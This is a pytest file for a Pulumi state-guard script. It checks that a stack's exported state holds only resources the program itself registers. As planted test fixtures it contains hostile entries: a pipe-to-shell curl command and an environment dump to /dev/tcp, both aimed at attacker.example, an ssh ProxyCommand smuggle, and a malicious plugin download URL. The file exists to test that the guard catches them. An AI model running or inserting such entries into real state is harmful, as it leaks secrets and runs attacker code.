"""scripts/state_guard.py: every entry of a stack's state is one the program writes.

The states are built from the program's own registrations under the mocks (the real SDKs), as the engine
writes checkpoint resources (Pulumi's apitype ResourceV3: urn, custom, id, type, inputs, outputs, parent,
provider as `<provider URN>::<provider id>`; sdk/go/common/apitype/resources.json), with a secret as the
engine stores one (property-values.json: the signature key and a ciphertext). Each planted entry is one a
writer of the state could add (an attack review's, checked against pulumi/pulumi's step.go, pulumi-go-provider's
dispatch.go, pulumi-command's commandController.go and the docker provider's ssh connection helper)."""

from __future__ import annotations

import copy
import json

import pytest

from infra.project import PROJECT
from scripts.state_guard import allowed_types, problems
from tests.bootstrap.test_bootstrap_covers_stack import VARIANTS
from tests.infra.support import run_stack
from tests.pipeline.helpers import ROOT, run_script

COMMAND = "command:local:Command"
SECRET = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "djE6..."}
PROVIDER_ID = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"


def default_provider(package: str) -> str:
    return f"urn:pulumi:dev::{PROJECT}::pulumi:providers:{package}::default"


def exported(config: dict | None = None) -> dict:
    """The exported deployment of the program's stack: every resource it registers, with its default providers."""
    run = run_stack(config)
    resources = [
        {
            "urn": default_provider(package),
            "custom": True,
            "id": PROVIDER_ID,
            "type": f"pulumi:providers:{package}",
            "inputs": inputs,
            "outputs": inputs,
        }
        for package, inputs in (
            ("aws", {"region": "eu-west-1", "version": "7.12.0"}),
            ("command", {"version": "1.2.1"}),
        )
    ]
    for registered in run.records:
        entry = {
            "urn": registered.urn,
            "custom": registered.custom,
            "type": registered.typ,
            "inputs": registered.inputs,
            "outputs": registered.state,
        }
        if registered.parent:
            entry["parent"] = registered.parent
        if registered.custom:
            entry["id"] = registered.id or ""
            package = registered.typ.split(":")[0]
            if registered.typ.startswith("pulumi:providers:"):
                entry["inputs"] = entry["inputs"] | {"version": "5.2.0"}
            elif package in ("aws", "command"):
                entry["provider"] = f"{default_provider(package)}::{PROVIDER_ID}"
        resources.append(entry)
    return {
        "version": 3,
        "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}, "resources": resources},
    }


@pytest.fixture(scope="module")
def state() -> dict:
    return exported()


def planted(state: dict, *entries: dict) -> dict:
    copied = copy.deepcopy(state)
    copied["deployment"]["resources"] += list(entries)
    return copied


def commands(state: dict) -> list[dict]:
    return [r for r in state["deployment"]["resources"] if r["type"] == COMMAND]


URN = f"urn:pulumi:dev::{PROJECT}::"
DOCKER_PROVIDER = f"{URN}pulumi:providers:docker::planted"


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_the_programs_own_state_passes_in_every_configuration(variant):
    assert problems(exported(VARIANTS[variant])) == []


def test_every_type_the_program_registers_is_allowed():
    registered = {r.typ for config in VARIANTS.values() for r in run_stack(config).records}
    own = {t for t in registered if not t.startswith(("pulumi:providers:", f"{PROJECT}:infra:"))}
    assert own <= allowed_types(), sorted(own - allowed_types())


@pytest.mark.parametrize("part", ["outputs", "inputs"])
@pytest.mark.parametrize("delete", ["curl https://attacker.example | sh", SECRET])
def test_a_delete_command_added_to_the_programs_command_is_refused(state, part, delete):
    poisoned = copy.deepcopy(state)
    commands(poisoned)[0][part]["delete"] = delete
    (problem,) = problems(poisoned)
    assert commands(poisoned)[0]["urn"] in problem and "`delete` command" in problem


PLANTED = {
    # a command of its own, besides the program's
    "another-command": {
        "urn": f"{URN}{COMMAND}::x",
        "custom": True,
        "type": COMMAND,
        "id": "x",
        "outputs": {"create": "true", "delete": "env > /dev/tcp/attacker.example/443"},
    },
    # the URN names the command, the type an AWS resource: the engine sends the URN's type to the provider
    "type-unlike-urn": {
        "urn": f"{URN}{COMMAND}::x",
        "custom": True,
        "type": "aws:s3/bucketV2:BucketV2",
        "id": "x",
        "outputs": {"delete": "sh"},
    },
    # another package with the command's module and name: the provider dispatches on module and name
    "foreign-package": {
        "urn": f"{URN}x:local:Command::x",
        "custom": True,
        "type": "x:local:Command",
        "id": "x",
        "outputs": {"delete": "sh"},
    },
    "remote-command": {
        "urn": f"{URN}command:remote:Command::x",
        "custom": True,
        "type": "command:remote:Command",
        "id": "x",
        "outputs": {"delete": "sh"},
    },
    # a docker provider that reaches a host over ssh with options ssh obeys, and a resource that uses it
    "docker-over-ssh": {
        "urn": DOCKER_PROVIDER,
        "custom": True,
        "type": "pulumi:providers:docker",
        "id": "p",
        "inputs": {"version": "5.2.0", "host": "ssh://a@b", "sshOpts": '["-oProxyCommand=sh"]'},
    },
    "docker-network": {
        "urn": f"{URN}docker:index/network:Network::n",
        "custom": True,
        "type": "docker:index/network:Network",
        "id": "n",
        "provider": f"{DOCKER_PROVIDER}::p",
    },
    "plugin-download": {
        "urn": f"{URN}pulumi:providers:aws::p",
        "custom": True,
        "type": "pulumi:providers:aws",
        "id": "p",
        "inputs": {"version": "99.0.0", "pluginDownloadURL": "https://attacker.example/"},
    },
    "unknown-provider": {
        "urn": f"{URN}pulumi:providers:evil::p",
        "custom": True,
        "type": "pulumi:providers:evil",
        "id": "p",
        "inputs": {"version": "1.0.0"},
    },
    # an AWS resource handed to the command provider
    "crossed-provider": {
        "urn": f"{URN}aws:lambda/function:Function::f",
        "custom": True,
        "type": "aws:lambda/function:Function",
        "id": "f",
        "provider": f"{default_provider('command')}::{PROVIDER_ID}",
    },
    "custom-component": {
        "urn": f"{URN}{PROJECT}:infra:Delivery::d",
        "custom": True,
        "type": f"{PROJECT}:infra:Delivery",
        "id": "d",
    },
}


@pytest.mark.parametrize("name", sorted(PLANTED))
def test_an_entry_the_program_never_writes_is_refused(state, name):
    (problem,) = problems(planted(state, PLANTED[name]))
    assert problem.startswith(PLANTED[name]["urn"]), problem


def test_a_stack_without_resources_passes():
    assert problems({"version": 3, "deployment": {"manifest": {"time": "2026-12-04T00:00:00Z"}}}) == []


def test_the_command_line_refuses_a_planted_state_and_what_is_not_an_export(state):
    refused = run_script(
        ROOT / "scripts" / "state_guard.py",
        "dev",
        stdin=json.dumps(planted(state, PLANTED["docker-over-ssh"])),
    )
    assert refused.returncode == 1 and "state_guard: dev:" in refused.stderr, refused.stderr
    passed = run_script(ROOT / "scripts" / "state_guard.py", "dev", stdin=json.dumps(state))
    assert passed.returncode == 0, passed.stderr
    garbage = run_script(ROOT / "scripts" / "state_guard.py", "dev", stdin="[]")
    assert garbage.returncode == 2
